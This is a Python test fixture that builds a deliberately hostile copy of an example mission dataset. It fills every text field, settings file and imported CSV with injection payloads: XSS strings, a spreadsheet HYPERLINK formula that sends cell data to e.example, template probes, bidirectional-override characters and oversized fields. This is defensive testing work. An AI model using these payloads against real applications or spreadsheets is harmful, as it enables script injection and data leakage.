"""A copy of the example in which every text is hostile, and a hostile, long and revised file imported on top."""

import csv
import shutil
from pathlib import Path

import pandas as pd

from data import mission
from data.importing.run import import_files
from data.mission import Mission
from data.tables import TABLES

IMG = '<img src=x onerror="window.top.pwned=1">'
FORMULA = '=HYPERLINK("http://e.example/?"&A1,"x")'
PAYLOAD = (
    FORMULA + IMG + "<script>window.top.pwned=1</script>\"><svg onload='window.top.pwned=1'>"
    "</textarea></style></script><iframe srcdoc='<script>window.top.pwned=1</script>'></iframe>"
    "[a](javascript:window.top.pwned=1) ![b](https://e.example/b.png) <https://e.example> www.e.example a@e.example"
    " **c** :red[d] $e^f$`g` {{ 7*7 }} ${7*7} \u200b\u200d\ufeff"
)
TURN = "\u202e"  # ends a text where nothing closes it: what follows in a sentence must not be shown backwards
TEXTS = {
    "incidents": ["notes", "location", "actor1", "actor2", "sub_event_type", "admin1", "admin2", "reported_by"],
    "areas": ["name", "source"],
    "bases": ["name", "sector", "functions", "source"],
    "other_forces": ["force", "name", "location", "source"],
    "sectors": ["sector", "hq", "source"],
    "assets": ["name", "availability_reason", "can_do", "how_to_ask", "tasking_authority", "tasking_reference"],
    "asset_requests": [
        "asked_by_post",
        "section",
        "effect",
        "tasking_authority",
        "tasking_reference",
        "decided_by_post",
        "reason",
    ],
    "mandates": ["title"],
    "priorities": ["title"],
    "tasks": ["title", "status_reason", "decision_asked", "lead_section", "progress_basis"],
    "source_figures": ["title", "wording", "citation", "figure_source"],
    "imports": ["file_name", "layout", "mapping", "who"],
}
SETTINGS = f"""
name = '''{PAYLOAD}{TURN}'''
country = "Mali"
handling = '''{PAYLOAD}{TURN}'''
synthetic = '''{PAYLOAD}{TURN}'''
synthetic_sources = ["sample"]
sources = ["sample", "sage"]
credits = ['''{PAYLOAD}{TURN}''']
[source_titles.sample]
title = '''{PAYLOAD}{TURN}'''
terms = '''{PAYLOAD}{TURN}'''
[source_titles.sage]
title = '''{PAYLOAD}sage{TURN}'''
"""
MAPPING = f"""
title = '''{PAYLOAD}{TURN}'''
day_order = "day_first"
[columns]
event_id = "Ref"
event_date = "Date"
event_type = "Type"
location = "Place"
latitude = "Lat"
longitude = "Long"
fatalities_best = "Dead"
notes = "Notes"
actor1 = "Actor"
admin1 = "Region"
[constants]
source = "sage"
country = "Mali"
geo_precision = 1
"""
HEAD = ["Ref", "Date", "Type", "Place", "Lat", "Long", "Dead", "Notes", "Actor", "Region"]
LONG_EVENT, EVENTS = "BIG", 4
LONG_PLACE = PAYLOAD + "x" * 10_000 + TURN
FILE = f"=1+1{IMG}{TURN}.csv"


def long_note(end: str) -> str:
    """A note of more than 1 MB, without a blank to break it at, that ends in `end`."""
    return PAYLOAD + "é" * 1_050_000 + end


def _weekly(path: Path, deaths: int, end: str) -> Path:
    """A hostile file of the section's own layout; every second row lies where an incident of the example does."""
    with path.open("w", encoding="utf-8", newline="") as file:
        out = csv.writer(file, delimiter=";")
        out.writerow(HEAD)
        where, texts = ["14.5", "-3.2"], [PAYLOAD + TURN] * 2
        out.writerow([LONG_EVENT, "20/12/2019", "Battles", LONG_PLACE, *where, deaths, long_note(end), *texts])
        for at in range(1, EVENTS):
            said = f"{PAYLOAD}{at}{TURN}"
            out.writerow([f"{FORMULA}{at}", f"{20 + at}/12/2019", "Battles", said, "15.5", "-3.2", 1, said, *texts])
        out.writerow(["REFUSED", *texts, PAYLOAD, *where, *texts, *texts])
    return path


def _more(areas: pd.DataFrame) -> dict[str, pd.DataFrame]:
    """Assessed threats and published counts, which the example has none of."""
    threats = pd.DataFrame(
        {
            "area_id": areas.loc[areas["level"] == 1, "area_id"].head(3).to_numpy(),
            "section": [f"{PAYLOAD}{at}{TURN}" for at in range(3)],
            "judgement": PAYLOAD + TURN,
            "assessed_on": pd.Timestamp("2019-12-01"),
            "confidence": "high",
        }
    )
    counts = pd.DataFrame(
        {
            **dict.fromkeys(("source", "country_code", "category", "dataset"), PAYLOAD + TURN),
            "admin1_name": PAYLOAD + TURN, "admin2_name": PAYLOAD + TURN,
            "area_code": [f"{PAYLOAD}{at}" for at in range(5)], "admin_level": 2, "events": 3, "fatalities": 4,
            "period_start": pd.Timestamp("2019-12-01"), "period_end": pd.Timestamp("2019-12-31"),
        }
    )  # fmt: skip
    return {"assessed_threats": TABLES["assessed_threats"].model.shape(threats),
            "aggregates": TABLES["aggregates"].model.shape(counts)}  # fmt: skip


def hostile_mission(folder: Path) -> Mission:
    """Version 2 has every text of the example worsened, 3 the section's file, 4 its revision."""
    shutil.copytree(mission.EXAMPLE, folder)
    (folder / "mission.toml").write_text(SETTINGS, encoding="utf-8")
    (folder / "mappings").mkdir()
    (folder / "mappings" / "weekly.toml").write_text(MAPPING, encoding="utf-8")
    made = mission.load(folder)

    def worsened(base: int) -> dict[str, pd.DataFrame]:
        tables = {name: made.store.read(name, base) for name in TEXTS}
        worse = {
            name: table.assign(**{c: PAYLOAD + table[c].fillna("").astype(str) + TURN for c in TEXTS[name]})
            for name, table in tables.items()
        }
        return worse | _more(worse["areas"])

    made.store.commit(worsened, who=PAYLOAD + TURN, what=PAYLOAD + TURN, settings=made.settings_text)
    for deaths, end in ((7, "FIRST"), (9, "SECOND")):
        import_files(made, [_weekly(folder / FILE, deaths, end)], who=PAYLOAD + TURN)
    return made
